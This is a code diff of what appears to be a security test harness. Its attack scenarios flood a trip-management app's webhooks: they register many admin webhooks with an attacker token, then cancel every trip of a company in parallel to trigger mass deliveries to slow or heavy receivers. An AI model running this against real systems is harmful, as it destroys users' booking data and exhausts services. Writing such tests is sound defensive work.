@@ -5,32 +5,22 @@ import type { Target } from '../target.ts'
 const EVENTS = ['trip.created', 'trip.changed', 'trip.cancelled']
 /** Of one person; more are refused. */
 const ADDRESSES = 20
-const TRIPS = 150
 /** Messages of one address that are on their way at once. */
 const AT_ONCE = 8
 /** The sender looks each second, and waits ten for an answer. */
 const WATCHED_MS = 15_000
 
-const HOUR_MS = 3_600_000
-const NAMED = ['tt_from_adrnr', 'tt_from_text', 'tt_to_adrnr', 'tt_to_text'] as const
-type Named = Record<(typeof NAMED)[number], string>
-const tripBody = (like: Named, index: number) => {
-  const at = (hours: number) => new Date(Date.now() + (hours + index) * HOUR_MS).toISOString()
-  const names = Object.fromEntries(NAMED.map((name) => [name, like[name]]))
-  return { ...names, tt_tour: `FLOOD ${index}`, tt_stp: at(30), tt_std: at(31), tt_sta: at(34) }
-}
-
 const addWebhook = async (target: Target, url: string, index = 0): Promise<number> => {
   const body = { role: 'admin', wh_name: `Flood ${index}`, wh_url: url, wh_events: EVENTS }
   return (await target.send({ path: '/api/webhooks', body, token: target.attackerToken })).status
 }
-/** Trips as the company of the measurement has them, under new names. */
+/** Cancels each trip of the company, which is told to every webhook. */
 const flood = async (target: Target) => {
-  const { body } = await target.send({ path: '/api/timetable?view=today', token: target.attackerToken })
-  const [like] = JSON.parse(body) as [Named]
-  return inParallel(TRIPS, 8, async (index) => {
-    const sent = { path: '/api/trips', body: tripBody(like, index), token: target.attackerToken }
-    return (await target.send(sent)).status
+  const { body } = await target.send({ path: '/api/tours', token: target.attackerToken })
+  const ids = (JSON.parse(body) as [number][]).map(([id]) => id)
+  return inParallel(ids.length, 8, async (index) => {
+    const sent = { method: 'PUT', path: `/api/trips/${ids[index]}`, body: { tt_status: 'canceled' } }
+    return (await target.send({ ...sent, token: target.attackerToken })).status
   })
 }
 
@@ -43,7 +33,7 @@ export const slowReceivers: Attack = {
       addWebhook(target, `${target.receiver.url}/${index}`, index),
     )
     const made = await flood(target)
-    must(made.includes(200), `no trip was made: ${tally(made)}`)
+    must(made.includes(200), `no trip was changed: ${tally(made)}`)
     await pause(WATCHED_MS)
     const { most } = target.receiver
     must(most > 0, 'nothing was sent at all')
@@ -74,7 +64,7 @@ export const hugeAnswers: Attack = {
   run: async (target) => {
     await addWebhook(target, target.receiver.url)
     const made = await flood(target)
-    must(made.includes(200), `no trip was made: ${tally(made)}`)
+    must(made.includes(200), `no trip was changed: ${tally(made)}`)
     await pause(WATCHED_MS)
     const { requests, bytes } = target.receiver
     must(requests > 0, 'nothing was sent at all')
